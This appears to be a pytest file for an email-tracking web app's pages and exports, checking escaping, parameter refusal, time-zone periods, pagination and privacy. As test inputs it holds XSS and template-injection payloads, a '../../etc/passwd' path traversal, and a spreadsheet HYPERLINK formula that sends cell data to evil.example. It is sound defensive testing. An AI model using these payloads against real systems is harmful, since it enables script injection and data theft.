"""What a reader sees over HTTP: pages that obey nobody, numbers, periods of any zone, exports."""

from __future__ import annotations

import contextlib
import csv
import io
import itertools
import re
import zoneinfo
from collections.abc import Iterator
from datetime import date, datetime, timedelta
from typing import Any
from urllib.parse import quote

import pytest
from asking import (
    ACME_KEY,
    Answer,
    Page,
    add_one_id,
    assert_error,
    assert_private,
    bearer,
    call,
    database_away,
    environ_of,
    get,
    register,
)
from conftest import CHROME, NOW, Stage, click, hit, segment

import tracker

BOTH_ENGINES = True

DAY = 86_400_000


def dashboard(stage: Stage, query: str = "", tenant: tracker.Tenant | None = None) -> Page:
    answer = get(stage, f"/{(tenant or stage.acme).id}/dashboard{query}")
    assert answer.status == 200
    return Page(answer.text)


def numbers_of(stage: Stage, query: str = "") -> Any:
    return get(stage, f"/{stage.acme.id}/stats.json{query}").json


def mailing(stage: Stage) -> Stage:
    """Four emails: one that a person read, one that Apple fetched, one that machines read, one that nobody did."""
    now = tracker.now_ms()
    names = ("person", "apple", "machine", "nobody")
    emails = (tracker.Registration(name, f"Dear {name}", f"{name}@example.org", "spring") for name in names)
    register(stage, stage.acme, *emails, at=now - 200_000)
    segment(
        stage,
        hit(stage, "person", now - 155_000),
        hit(stage, "person", now - 40_000),
        click(stage, "person", at=now - 30_000),
        click(stage, "person", "https://elsewhere.example/", now - 29_000, answer="named", why="destination-not-allowed"),
        hit(stage, "apple", now - 50_000, ua="Mozilla/5.0"),
        hit(stage, "machine", now - 50_000, ua="curl/8.0"),
        click(stage, "machine", at=now - 40_000, method="HEAD"),
        hit(stage, "unknown", now - 20_000),
    )  # fmt: skip
    stage.drain()
    assert stage.check() == []
    return stage


# -- Pages


def test_the_page_of_an_email_says_what_spoke_for_and_against_a_person_in_each_hit(stage: Stage) -> None:
    register(stage, stage.acme, tracker.Registration("e1", delivered_at=(at := tracker.now_ms() - 9_000_000)))
    old = (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/80.0.1.2 Safari/537.36"
    )
    links = [click(stage, "e1", f"https://acme.com/{n}", at + 7_200_000 + 200 * n) for n in range(3)]
    segment(stage, hit(stage, "e1", at + 20_000, ua=old), hit(stage, "e1", at + 30_000, ua="curl/8.0"), *links)
    stage.drain()
    page = get(stage, f"/{stage.acme.id}/emails/e1").text
    late = "For a person: the program is not known to be old; it came later than a minute after the mail. Against: "
    assert page.count(f"<small>{late}several links were followed at once; nobody had opened") == 3
    assert "<small>Against: this Chrome is more than 4 years old; it came within a minute of delivery.</small>" in page
    assert page.count("Against: ") == 4 and "<small></small>" not in page


def test_a_page_tells_of_mail_that_nobody_registered_and_of_clicks_that_met_the_naming_page(stage: Stage) -> None:
    page = dashboard(mailing(stage))
    assert page.title == "Acme: opens and clicks"
    unregistered, named = page.notices
    assert "1 email that nobody registered" in unregistered
    assert "Opened: 1 by people." in unregistered
    told, _, operator = named.partition("For the operator")
    assert told == (
        "1 click to elsewhere.example met the page that names where a link leads: this tenant had not allowed that host. "
        "Ask whoever runs this tracker to allow elsewhere.example."
    )
    assert operator == f"tracker.py tenant set {stage.acme.mail_id} --domain elsewhere.example"
    stage.change(stage.acme, suspended=True)
    assert "suspended" in dashboard(stage).notices[0]


def test_the_advice_for_a_host_names_its_port_and_is_left_out_where_it_would_be_refused(stage: Stage) -> None:
    for n, url in enumerate(("https://acme.com:8443/", "http://intranet/")):
        get(stage, f"/{stage.acme.mail_id}/click/k{n}?url={url}", {"User-Agent": CHROME})
    text = dashboard(stage).text
    assert "--domain acme.com:8443" in text
    assert "1 click to intranet met the page that names" in text and "--domain intranet" not in text


def assert_inert(page: Page) -> None:
    """No script, no style of a page's own, nothing loaded from elsewhere."""
    for tag, attributes in page.tags:
        assert tag not in ("script", "style", "iframe", "object", "embed", "base")
        assert tag != "form" or attributes["method"] == "get"
        assert tag != "link" or attributes["rel"] in ("icon", "stylesheet")
        assert not [name for name in attributes if name.startswith("on") or name in ("style", "srcset", "formaction")]
        assert re.match(r"#|/(?!/)", attributes.get("action") or "/")
        assert attributes.get("http-equiv") is None
    for link in page.links:
        assert re.match(r"/(?!/)|[?#]|\.\.?/", link), f"{link} leads away"


HOSTILE = [
    "</title></td></table><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "$name ${body} $$ $rows",
    "<!--",
    "&lt;b&gt; &amp; &#60;script&#62;",
    "{{7*7}} %s %(name)s {scope} {0}",
    "\U0001f389" * 60,
    "a" * 200,
    "\u202egnp.exe",  # the bdi around it keeps a right-to-left override from spilling
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_strangers_write_is_shown_and_never_obeyed(stage: Stage, text: str) -> None:
    stage.change(stage.acme, name=text)
    register(stage, stage.acme, tracker.Registration("e1", text, text, text))
    segment(stage, hit(stage, "e1", ua=text), click(stage, "e1", f"https://acme.com/?{quote(text)}"))
    for path in ("emails/e1", f"campaigns/{quote(text, safe='')}", f"dashboard?q={quote(text)}"):
        page = Page(get(stage, f"/{stage.acme.id}/{path}").text)
        assert page.text.count(text) >= 3
        assert_inert(page)
    page = dashboard(stage)
    assert page.text.count(text) >= 3
    assert page.title == f"{text}: opens and clicks"
    # The same tags as an empty page and one row: nothing that was written became a tag or an attribute.
    register(stage, stage.globex, tracker.Registration("e1"))
    harmless = {tag for tag, _ in dashboard(stage, tenant=stage.globex).tags}
    of_rows = {"table", "thead", "tbody", "tr", "th", "td", "bdi", "small", "code", "time", "svg", "span"}
    assert {tag for tag, _ in page.tags} - harmless <= of_rows
    assert_inert(page)


def test_no_page_holds_a_script_leads_away_or_gives_out_an_id_but_its_own(stage: Stage) -> None:
    mail_id, id_ = mailing(stage).acme.mail_id, stage.acme.id
    for path in (f"/{id_}/dashboard", f"/{id_}/campaigns/spring", f"/{id_}/emails/person"):
        answer = get(stage, path)
        assert_private(answer)
        assert_inert(Page(answer.text))
    hits = (
        "pixel/e1.gif",
        "click/e1/x/y",
        "click/e1",
        "click/e1?url=ftp://x",
    )
    wrong = ("nothing", "dashboard?sort=x", "emails", "emails/e1?tz=x", "stats.json?tz=x")
    public = ("/", "/health", "/nothing", *(f"/{mail_id}/{hit}" for hit in hits), *(f"/{id_}/{each}" for each in wrong))
    for path in public:
        answer = get(stage, path)
        if answer["Content-Type"].startswith("text/html"):
            assert_private(answer)
            assert_inert(Page(answer.text))
        for tenant in (stage.acme, stage.globex):
            assert tenant.id.encode() not in answer.body
            assert not any(tenant.id in value for _, value in answer.headers)


@pytest.mark.parametrize("name", list(tracker.RANGES))
def test_every_range_is_shown_in_every_time_zone(stage: Stage, name: str) -> None:
    mailing(stage)
    for zone in ("UTC", "Asia/Kolkata", "America/St_Johns"):
        asked = f"tz={quote(zone, safe='')}"
        page = dashboard(stage, f"?range={name}&{asked}")
        current = [attributes["href"] or "" for _, attributes in page.tags if attributes.get("aria-current") == "page"]
        assert [f"range={name}" in url for url in current] == [True]
        ranges = [link for link in page.links if "range=" in link]
        assert zone == "UTC" or all(asked in link for link in ranges)  # one click away, in the same zone
        numbers = numbers_of(stage, f"?range={name}&{asked}")
        assert (numbers["range"]["name"], numbers["range"]["tz"]) == (name, zone)
        for types, count in (("opens", 5), ("clicks", 3)):
            assert sum(numbers["activity"][types]["hits"].values()) == count
            assert sum(sum(step[types].values()) for step in numbers["steps"]) == count


X = "x" * 5000
ZONE, RANGE = "expected a time zone such as Europe/Rome", "expected one of 24h, 7d, 30d, 90d, 12m, all"
ZONES = f"Mars/Olympus ../../etc/passwd /etc/localtime europe Europe Europe/ Europe/Rome/x é a%00b <script> . .. / zone.tab {X}"
REFUSED = {  # the pages that know a parameter, what it can't be, what is told
    "tz": ("dashboard stats.json", f"{ZONES} tzdata.zi %0A UTC%20", ZONE),
    "range": ("dashboard stats.json", f"1h 30D 30d%20 all,7d -1 <script> %00 {X}", RANGE),
    "after": ("dashboard emails.json events.csv links.json", f"x 1 1- -1 1-2-3 %00 {'9' * 30}-1", "after: expected"),
    "limit": ("emails.json events.csv", f"0 -1 100001 1e3 x %00 ² {'9' * 5000} +1", "limit: expected a whole number"),
    "on": ("dashboard", "2026-11-31 tomorrow", "on is"),
    "on=1999-11-30&to": ("dashboard", "2026-11-30", "on: expected a day of this century"),
    "from": ("dashboard", "2026-11-31", "from is"),
    "from=2026-11-20&to": ("dashboard", "2026-11-10", "two days of this century, in order"),
    "from=1999-01-01&to": ("dashboard", "2026-11-10", "two days of this century"),
    "to": ("dashboard", "tomorrow", "to is"),
    "show": ("dashboard emails.csv", "everything", "show: expected one of all, opened"),
    "sort": (
        "dashboard",
        "emails.size people.name campaigns campaigns.opened.down .up",
        "sort: expected one of emails.recipient, emails.subject",
    ),
}


@pytest.mark.parametrize("parameter", REFUSED)
def test_a_parameter_that_can_not_be_is_refused_with_what_was_expected(still: Stage, parameter: str) -> None:
    pages, values, told = REFUSED[parameter]
    for page, value in itertools.product(pages.split(), values.split(" ")):
        assert told in assert_error(get(still, f"/{still.acme.id}/{page}?{parameter}={value}"), 400), (page, value)
    assert get(still, f"/{still.acme.id}/emails.json").status == 200  # and the lock is free


# -- How periods are cut (pure)

ROME, KOLKATA = zoneinfo.ZoneInfo("Europe/Rome"), zoneinfo.ZoneInfo("Asia/Kolkata")


def local_ms(zone: str, *moment: int) -> int:
    return int(datetime(*moment, tzinfo=zoneinfo.ZoneInfo(zone)).timestamp() * 1000)  # type: ignore[misc,arg-type]


def test_a_day_begins_with_its_first_moment_in_every_time_zone_there_is() -> None:
    # Some change their clocks at midnight: the day then begins at 01:00, or has two midnights.
    for name in sorted(zoneinfo.available_timezones() - {"localtime"}):
        zone = zoneinfo.ZoneInfo(name)
        for now in (NOW, NOW - 90 * DAY, NOW - 180 * DAY, NOW - 270 * DAY):
            starts = tracker.read_period("90d", zone, now, None).starts
            today = datetime.fromtimestamp(now / 1000, zone).date()
            for back, at in enumerate(reversed(starts)):
                day = today - timedelta(days=back)
                assert datetime.fromtimestamp(at / 1000, zone).date() == day, name
                assert datetime.fromtimestamp((at - 1) / 1000, zone).date() < day, name
                assert at % tracker.QUARTER_MS == 0, name  # so a day is made of whole quarters


def test_hours_are_those_of_the_clock_on_the_wall_and_one_that_comes_twice_is_two_steps() -> None:
    period = tracker.read_period("24h", KOLKATA, local_ms("Asia/Kolkata", 2026, 11, 24, 14, 20), None)
    assert period.starts[-1] == local_ms("Asia/Kolkata", 2026, 11, 24, 14)
    assert period.starts[0] == local_ms("Asia/Kolkata", 2026, 11, 23, 15)
    # In Rome on 25 October 2026 the hour from 02:00 comes twice.
    period = tracker.read_period("24h", ROME, local_ms("Europe/Rome", 2026, 10, 25, 12, 30), None)
    assert {end - start for start, end in itertools.pairwise(period.starts)} == {3_600_000}
    shown = [datetime.fromtimestamp(at / 1000, ROME).strftime("%H:%M") for at in period.starts]
    assert (shown.count("02:00"), shown[0]) == (2, "14:00")


CUT = [  # a range, when the numbers begin, how many steps of what it has, and the day of the first
    ("24h", None, 24, "hour", date(2026, 11, 23)),
    ("7d", None, 7, "day", date(2026, 11, 18)),
    ("30d", None, 30, "day", date(2026, 10, 26)),
    ("90d", None, 90, "day", date(2026, 8, 27)),
    ("12m", None, 53, "week", date(2025, 11, 24)),  # the week of the same day a year ago
    ("all", None, 1, "week", date(2026, 11, 23)),  # NOW is the Tuesday after
    ("all", local_ms("UTC", 2026, 11, 22, 23, 59), 2, "week", date(2026, 11, 16)),
    ("all", local_ms("UTC", 2024, 12, 2), 104, "week", date(2024, 12, 2)),
    ("all", local_ms("UTC", 2024, 12, 1, 23), 24, "month", date(2024, 12, 1)),
    ("all", local_ms("UTC", 2000, 1, 31), 323, "month", date(2000, 1, 1)),
    ("all", NOW + 400 * DAY, 1, "week", date(2026, 11, 23)),  # a clock that was wrong
]


@pytest.mark.parametrize(("name", "first", "count", "step", "begin"), CUT)
def test_a_range_has_so_many_steps_of_which_the_last_is_now(
    name: str, first: int | None, count: int, step: str, begin: date
) -> None:
    for zone in ("UTC", "Europe/Rome"):
        period = tracker.read_period(
            name,
            tracker.read_zone(zone),
            NOW,
            first and first + local_ms(zone, 2026, 11, 20) - local_ms("UTC", 2026, 11, 20),
        )
        days = [period.day(at) for at in period.starts]
        assert (len(days), period.step, days[0], str(period.zone)) == (count, step, begin, zone)
        assert period.starts == sorted(set(period.starts))
        assert period.starts[-1] <= NOW < period.end
        assert step != "month" or {day.day for day in days} == {1}
        assert step != "week" or {day.weekday() for day in days} == {0}


# -- Numbers


def test_an_open_counts_when_it_happens_and_a_rate_by_when_the_mail_was_sent(stage: Stage) -> None:
    now = tracker.now_ms()
    register(stage, stage.acme, tracker.Registration("old"), at=now - 10 * DAY)
    register(stage, stage.acme, tracker.Registration("fresh"), at=now - 1)
    segment(stage, hit(stage, "old", now - 60_000), hit(stage, "old", now - 9 * DAY))
    # The email became unique nine days ago, so this week saw a hit of it and no new email.
    for asked, emails, rate, hits, unique in (("7d", 1, [0, 0], 1, 0), ("30d", 2, [0.5, 0.5], 2, 1)):
        numbers = numbers_of(stage, f"?range={asked}")
        assert (numbers["sent"]["emails"], numbers["sent"]["open_rate"]) == (emails, rate)
        opens = numbers["activity"]["opens"]
        assert (opens["hits"]["person"], opens["emails"]["person"]) == (hits, unique)


def test_stats_json_has_the_numbers_of_the_dashboard(stage: Stage) -> None:
    numbers = get(mailing(stage), f"/{stage.acme.id}/stats.json?range=24h").json
    assert len(numbers.pop("steps")) == 24
    assert numbers.pop("last_hit_at").endswith("Z")
    period = numbers.pop("range")
    assert (period["name"], period["tz"]) == ("24h", "UTC")
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:00:00\.000Z", period["from"])

    def states(person: int, unconfirmed: int, machine: int, **more: int) -> dict[str, int]:
        return {"person": person, "unconfirmed": unconfirmed, "machine": machine, **more}

    nothing, none = states(0, 0, 0), states(0, 0, 0, set_aside=0)
    only = {"clicked_without_open": 0, "clicked_with_unconfirmed": 0}
    sent = {"emails": 4, "opened": states(1, 1, 1), "clicked": states(1, 0, 1), **only}
    unregistered = {"emails": 1, "opened": states(1, 0, 0), "clicked": nothing, **only}
    before = {"emails": 0, "opened": nothing, "clicked": nothing, **only}
    assert numbers == {
        "tenant": "Acme",
        "before": {"sent": before, "opens": none, "clicks": none},
        "sent": {**sent, "open_rate": [0.25, 0.5], "click_rate": [0.25, 0.25]},
        "unregistered": unregistered,
        "activity": {
            "opens": {"hits": states(3, 1, 1, set_aside=0), "emails": states(2, 1, 1)},
            "clicks": {"hits": states(1, 0, 1, set_aside=1), "emails": states(1, 0, 1)},
        },
        "reasons": [
            {"event_type": kind, "verdict": verdict, "reason": reason, "counts_as": state, "hits": number}
            for kind, verdict, reason, state, number in (
                ("open", "human", "browser", "person", 3),
                ("open", "bot", "bot-word", "machine", 1),
                ("open", "prefetch", "apple-mpp", "unconfirmed", 1),
                ("click", "human", "browser", "person", 1),
                ("click", "human", "destination-not-allowed", "set_aside", 1),
                ("click", "scanner", "head", "machine", 1),
            )
        ],
        "naming_page": [{"host": "elsewhere.example", "reason": "destination-not-allowed", "clicks": 1}],
        "dropped": {},
        "waiting_hits": 0,
    }


def read_csv(answer: Answer) -> list[list[str]]:
    """The records of a CSV that keeps to RFC 4180: CRLF after each, as many fields in each, quotes where needed."""
    assert answer.status == 200
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    text = answer.body.decode("utf-8")
    assert text.endswith("\r\n")
    records = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert len({len(record) for record in records}) == 1
    field = r'(?:"(?:[^"]|"")*"|[^",\r\n]*)'
    assert re.fullmatch(rf"(?:{field}(?:,{field})*\r\n)+", text)
    return records


TABLE_FIELDS = {"emails": tracker.EMAILS.fields, "events": tracker.EVENTS.fields, "links": tracker.LINKS.fields}


@pytest.mark.parametrize("table", list(TABLE_FIELDS))
def test_an_export_has_exactly_the_fields_of_the_contract_in_json_and_csv(stage: Stage, table: str) -> None:
    names = TABLE_FIELDS[table]
    assert get(stage, f"/{stage.globex.id}/{table}.json").json == {"rows": [], "next": None}
    assert read_csv(get(stage, f"/{stage.globex.id}/{table}.csv")) == [[*names, "next"]]
    answer = get(mailing(stage), f"/{stage.acme.id}/{table}.json")
    assert answer["Content-Disposition"] == f'attachment; filename="{table}.json"'
    rows = answer.json["rows"]
    assert (list(answer.json), len(rows)) == (["rows", "next"], {"emails": 5, "events": 8, "links": 1}[table])
    # Two forms of the same: what is null in JSON is empty in CSV.
    assert {tuple(row) for row in rows} == {names}
    values = [[value + 0 if isinstance(value, bool) else value for value in row.values()] for row in rows]
    texts = [["" if value is None else str(value) for value in row] for row in values]
    assert read_csv(get(stage, f"/{stage.acme.id}/{table}.csv"))[1:] == [[*row, ""] for row in texts]


def test_the_rows_of_an_export_say_what_happened(stage: Stage) -> None:
    now = tracker.now_ms() // 1000 * 1000
    register(stage, stage.acme, tracker.Registration("e1", "Hello", "reader@example.org", "spring"), at=now - 5000)
    segment(
        stage,
        hit(stage, "e1", now - 4000, ip="203.0.113.0"),
        click(stage, "e1", "https://acme.com/a?b=1", now - 3000, method="HEAD", ip=""),
    )
    stamp = [tracker.iso_time(now - 1000 * n) for n in range(6)]
    root = f"/{stage.acme.id}"
    assert get(stage, f"{root}/emails.json").json["rows"] == [
        {
            "key": "e1", "subject": "Hello", "recipient": "reader@example.org", "campaign": "spring",
            "registered": 1, "created_at": stamp[5], "sent_at": stamp[5],
            "opens_person": 1, "opens_unconfirmed": 0, "opens_machine": 0, "opened_as": "person", "opened_at": stamp[4],
            "clicks_person": 0, "clicks_unconfirmed": 0, "clicks_machine": 1, "clicked_as": "machine", "clicked_at": stamp[3],
        }
    ]  # fmt: skip
    assert get(stage, f"{root}/events.json").json["rows"] == [
        {
            "key": "e1", "event_type": "click", "timestamp": stamp[3], "method": "HEAD", "verdict": "scanner", "reason": "head",
            "url": "https://acme.com/a?b=1", "user_agent": CHROME, "ip_address": None,
        },
        {
            "key": "e1", "event_type": "open", "timestamp": stamp[4], "method": "GET", "verdict": "human", "reason": "browser",
            "url": None, "user_agent": CHROME, "ip_address": "203.0.113.0",
        },
    ]  # fmt: skip
    assert get(stage, f"{root}/links.json").json["rows"] == [
        {
            "url": "https://acme.com/a?b=1", "clicks_person": 0, "clicks_unconfirmed": 0, "clicks_machine": 1,
            "emails_person": 0, "emails_unconfirmed": 0, "emails_machine": 1,
        }
    ]  # fmt: skip
    segment(stage, hit(stage, "e1", now - 4500, ua="curl/8.0"))  # earlier, but of a worse state
    (row,) = get(stage, f"{root}/emails.json").json["rows"]
    assert (row["opens_machine"], row["opened_as"], row["opened_at"]) == (1, "person", stamp[4])


def many_rows(stage: Stage) -> None:
    """20 emails of one moment, in as many campaigns, a click in each on a link of its own, of one moment too."""
    now = tracker.now_ms()
    register(
        stage, stage.acme, *(tracker.Registration(f"e{n}", campaign=f"Sale {n} & é") for n in range(20)), at=now - 1000
    )
    segment(stage, *(click(stage, f"e{n}", f"https://acme.com/{n}", now - 500) for n in range(20)))
    stage.drain()


def test_an_answer_has_no_more_campaigns_than_a_script_can_bear(stage: Stage, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tracker, "MOST_CAMPAIGNS", 12)
    many_rows(stage)
    first = get(stage, f"/{stage.acme.id}/campaigns.json").json
    rest = get(stage, f"/{stage.acme.id}/campaigns.json?after={first['next']}").json
    assert (len(first["rows"]), len(rest["rows"]), rest["next"]) == (12, 8, None)
    for wrong in ("0-x", "x", "5-99999999999999999999", "x-U3ByaW5n"):
        assert get(stage, f"/{stage.acme.id}/campaigns.json?after={wrong}").status == 400, wrong


UNKNOWN = [
    *(f"emails.json?{name}=x" for name in ("campain", "Campaign", "key", "since", "sort", "range", "utm_source", "")),
    *(f"events.csv?{name}=x" for name in ("q", "show", "from", "campaigns", "verdicts", "uri")),
    *("links.json?key=x", "links.csv?limits=1", "campaigns.json?campaign=x", "campaigns.csv?sort=sent.up"),
    *("clients.json?campaigns=x", "clients.csv?timezone=UTC"),
    *(f"stats.json?{name}=x" for name in ("campain", "key", "limit", "ranges", "since")),
]


@pytest.mark.parametrize("path", UNKNOWN)
def test_a_program_that_asks_by_an_unknown_name_is_told_the_known_ones(still: Stage, path: str) -> None:
    for query in ("", "&campaign=spring" * path.startswith(("emails", "links")), f"&{'x' * 5000}=1"):
        told = assert_error(get(still, f"/{still.acme.id}/{path}{query}"), 400)
        name, expected = told.split(": unknown parameter; expected some of ")
        assert name == path.partition("?")[2].partition("=")[0]
        for each in expected.split(", "):
            value = {"limit": "1", "range": "7d", "tz": "UTC", "verdict": "human", "show": "all"}.get(each, "")
            value = {"on": "2026-11-24", "from": "2001-01-01", "to": "2099-12-31"}.get(each, value)
            assert get(still, f"/{still.acme.id}/{path.partition('?')[0]}?{each}={value}").status == 200, each
    assert get(still, f"/{still.acme.id}/dashboard?utm_source=x&campain=y").status == 200


def spread_events(stage: Stage) -> None:
    """Sixty hits, a second apart: each third of another campaign's email, each fourth by a program."""
    names = ("spring", "autumn", "")
    register(
        stage, stage.acme, *(tracker.Registration(f"e{n}", campaign=names[n % 3]) for n in range(60)), at=NOW - DAY
    )
    register(stage, stage.globex, tracker.Registration("e0", campaign="spring"), at=NOW - DAY)
    ua = ("curl/8.0", CHROME, CHROME, CHROME)
    segment(stage, *(hit(stage, f"e{n}", NOW + 1000 * n, ua=ua[n % 4]) for n in range(60)))
    segment(stage, hit(stage, "e0", NOW, uri=f"/{stage.globex.mail_id}/pixel/e0.gif"))
    stage.drain()


EVENTS_OF = {  # what is asked for, and which of the hits these are
    "campaign=spring": range(0, 60, 3),
    "campaign=autumn&verdict=bot": range(4, 60, 12),
    "verdict=bot": range(0, 60, 4),
    "verdict=scanner": (),
    "campaign=winter": (),
    "since=2026-11-24T18:21:55.430Z": range(30, 60),
    "until=2026-11-24T18:21:55.430Z": range(30),
    "since=2026-11-24T19:21:45.430%2B01:00&until=2026-11-24T18:21:55.430Z&verdict=bot": range(20, 30, 4),
    "key=e12&campaign=spring&verdict=bot": (12,),
    "key=e12&campaign=autumn": (),
    "key=e12&since=2026-11-24T19:00:00Z": (),
    "campaign=spring&since=2026-11-24T18:21:35.430Z&until=2026-11-24T18:21:40.430Z": (12,),
}


@pytest.mark.parametrize("most_sorted", [10_000, 19, 7], ids=["a few", "many", "of very many"])
def test_events_are_narrowed_by_campaign_time_and_verdict_however_many_there_are(
    stage: Stage, most_sorted: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    spread_events(stage)
    for name, value in {"MOST_SORTED": most_sorted, "CHUNK_ROWS": 5, "MOST_PIECES": 3}.items():
        monkeypatch.setattr(tracker, name, value)
    for query, expected in EVENTS_OF.items():
        for form in ("json", "csv"):
            found, asks = list[str](), 0
            following: str | None = ""
            while following is not None and asks < 20:
                asks += 1
                more = f"&after={following}" * bool(following)
                answer = get(stage, f"/{stage.acme.id}/events.{form}?{query}{more}")
                if form == "json":
                    found += [row["key"] for row in answer.json["rows"]]
                    following = answer.json["next"]
                else:
                    _, *records = read_csv(answer)
                    found += [record[0] for record in records if record[0]]
                    following = (records[-1][-1] if records else "") or None
            assert found == [f"e{n}" for n in reversed(expected)], (query, form)
            assert asks < 6
            # The work for one answer is bounded, however few rows fit.
            assert query != "verdict=scanner" or asks == {10_000: 1, 19: 2, 7: 3}[most_sorted]


def test_the_numbers_of_a_campaign_are_of_all_time_so_a_range_is_refused(still: Stage) -> None:
    for each in ("range=7d", "on=2026-11-24", "from=2026-11-24"):
        told = assert_error(get(still, f"/{still.acme.id}/stats.json?{each}&campaign=spring"), 400)
        assert told == f"{each.partition('=')[0]}: unknown parameter; expected some of tz, campaign"


def test_times_and_verdicts_that_are_none_are_refused(still: Stage) -> None:
    for query in ("verdict=people", "since=yesterday", "until=2026-11-24", "since=1795544485"):
        told = assert_error(get(still, f"/{still.acme.id}/events.json?{query}"), 400)
        assert told.startswith(f"{query.partition('=')[0]}: expected ")


@pytest.mark.parametrize("table", [*TABLE_FIELDS, "campaigns"])
def test_next_leads_through_all_rows_once(stage: Stage, table: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tracker, "CHUNK_ROWS", 8)  # so that some are of more than one reading
    many_rows(stage)
    root = f"/{stage.acme.id}/{table}"
    whole = get(stage, f"{root}.json").json
    firsts = [next(iter(row.values())) for row in whole["rows"]]
    assert (len({str(row) for row in whole["rows"]}), len(firsts), whole["next"]) == (20, 20, None)
    assert [record[0] for record in read_csv(get(stage, f"{root}.csv"))[1:]] == firsts
    for limit in (1, 7, 10, 19, 20, 21):
        rows: list[dict[str, Any]] = []
        records: list[list[str]] = []
        query, following = f"?limit={limit}", ""
        while following is not None and len(rows) < 20:
            answer = get(stage, f"{root}.json{query}").json
            _, *more = read_csv(get(stage, f"{root}.csv{query}"))
            following = answer["next"]
            query = f"?limit={limit}&after={following}"
            assert 0 < len(answer["rows"]) == len(more) <= limit
            assert [record[-1] for record in more] == [""] * (len(more) - 1) + [following or ""]  # where to go on
            rows += answer["rows"]
            records += more
        assert rows == whole["rows"] and not following
        assert [record[0] for record in records] == firsts


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_of_a_csv_runs_nothing_in_a_spreadsheet_and_holds_what_was_written(stage: Stage, start: str) -> None:
    text = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")\r\nthree\nfour'
    key = f"{start}1" if tracker.is_key(f"{start}1") else "e1"
    register(stage, stage.acme, tracker.Registration(key, text, text, text))
    segment(stage, hit(stage, key, ua=text))
    for table in ("emails", "events"):
        header, record = read_csv(get(stage, f"/{stage.acme.id}/{table}.csv"))
        assert sum(text in cell for cell in record) == {"emails": 3, "events": 1}[table]
        assert not [cell for cell in record if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert dict(zip(header, record, strict=True))["key"].removeprefix("'") == key
    # JSON is for programs: it holds what was written.
    assert get(stage, f"/{stage.acme.id}/emails.json").json["rows"][0]["subject"] == text


@contextlib.contextmanager
def unread(stage: Stage, target: str) -> Iterator[tuple[Any, io.StringIO]]:
    """An export whose body is there and not read; closed in the end as a server does."""
    environ = environ_of("GET", target)
    body = tracker.wsgi(stage.app)(environ, lambda status, headers, exc_info=None: lambda data: None)
    try:
        yield body, environ["wsgi.errors"]
    finally:
        body.close()  # type: ignore[attr-defined]


def test_one_export_reads_at_a_time_and_none_holds_up_others_while_it_is_sent(stage: Stage) -> None:
    many_rows(stage)
    # It is the server that is busy, not the tenant.
    both = (stage.acme.id, stage.globex.id)
    others = [f"/{id_}/{table}.{form}" for id_ in both for table in TABLE_FIELDS for form in ("json", "csv")]
    with unread(stage, f"/{stage.acme.id}/events.json") as (body, _):
        for path in others:
            answer = get(stage, path)
            assert assert_error(answer, 503).startswith("Another large request")
            assert int(answer["Retry-After"]) > 0
        assert get(stage, f"/{stage.acme.id}/dashboard").status == 200
        assert stage.pixel("e1").headers["X-Tracker"] == "recorded"
        parts = iter(body)
        read = [next(parts) for _ in range(2)]
        assert {get(stage, path).status for path in others} == {200}
        assert b"".join([*read, *parts]).endswith(b'"next": null}\n')


def test_a_large_body_that_nobody_reads_makes_no_export_wait_for_itself(stage: Stage) -> None:
    assert call(stage, "GET", f"/{stage.acme.id}/events.json", b"x" * (tracker.HEAVY_BYTES + 1)).status == 200


@pytest.mark.sqlite
def test_an_export_that_breaks_off_is_logged_without_the_private_url_and_frees_the_lock(stage: Stage) -> None:
    register(stage, stage.acme, *(tracker.Registration(f"e{n}") for n in range(2 * tracker.CHUNK_ROWS)))
    with unread(stage, f"/{stage.acme.id}/emails.json") as (body, errors):
        chunks = iter(body)
        next(chunks)
        # Cut off without an end, the JSON is seen to be incomplete: nobody takes a part for the whole.
        with database_away(stage), pytest.raises(OSError, match="broke off"):
            list(chunks)
    assert "Traceback" in errors.getvalue()
    assert stage.acme.id not in errors.getvalue()
    assert get(stage, f"/{stage.acme.id}/emails.json").status == 200


def test_with_one_id_nothing_tells_of_people_but_to_who_has_the_key(stage: Stage) -> None:
    one = add_one_id(stage)
    stage.change(one, api_key_hash=tracker.key_hash(ACME_KEY))
    register(stage, one, tracker.Registration("e1", "A secret subject", "secret@example.org", "spring"))
    segment(stage, hit(stage, "e1", uri=f"/{one.id}/pixel/e1.gif", ip="203.0.113.0"))
    stage.drain()
    personal = {"recipient", "subject", "ip_address"}
    for table in ("emails", "events"):
        for key, left_out in (("", personal), ("wrong", personal), (ACME_KEY, set())):
            expected = [name for name in TABLE_FIELDS[table] if name not in left_out]
            (row,) = get(stage, f"/{one.id}/{table}.json", bearer(key)).json["rows"]
            assert list(row) == expected
            (header, _) = read_csv(get(stage, f"/{one.id}/{table}.csv", bearer(key)))
            assert header == [*expected, "next"]
    for path in ("dashboard", "dashboard?q=secret", "campaigns/spring", "emails/e1"):
        text = get(stage, f"/{one.id}/{path}").text
        for said in ('value="secret"', "q=secret", "<bdi>secret</bdi>"):  # what the reader himself typed
            text = text.replace(said, "")
        assert "secret" not in text and "203.0.113.0" not in text, path
    assert_error(get(stage, f"/{one.id}/dashboard?sort=emails.recipient"), 400)
    # Nor is it told by what a search finds, but the key that stands in mail is.
    found = {
        text: len(get(stage, f"/{one.id}/emails.json?q={text}").json["rows"])
        for text in ("secret", "spring", "ecre", "E1")
    }
    assert found == {"secret": 0, "spring": 0, "ecre": 0, "E1": 1}
    assert "A secret subject" in get(stage, f"/{one.id}/dashboard", bearer(ACME_KEY)).text
